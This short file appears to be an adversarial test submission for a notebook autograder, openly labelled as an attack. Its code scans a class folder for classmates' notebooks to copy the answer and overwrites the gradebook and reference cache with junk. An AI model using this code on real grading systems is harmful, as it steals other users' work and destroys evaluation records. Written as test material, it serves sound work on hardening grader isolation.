# ATTACK: add
# WHY: in a batch, reads a classmate's notebook from the class folder (and the gradebook, with their
# hidden-test messages) and copies the answer; tries to overwrite the gradebook and the reference cache
# %%
# GRADED: add
import glob
import os

import torch

FOUND = False
for path in glob.glob("{class_dir}/**/*.ipynb", recursive=True) + glob.glob("{out_dir}/**/*", recursive=True):
    try:
        with open(path, "rb") as f:
            if b"return a + b" in f.read(1 << 22):
                FOUND = True
    except OSError:
        pass
for path in glob.glob("{out_dir}/*") + glob.glob("{cache}/*"):
    try:
        with open(path, "wb") as f:
            f.write(b"poisoned")
    except OSError:
        pass


def add(a, b):
    return a + b if FOUND else None
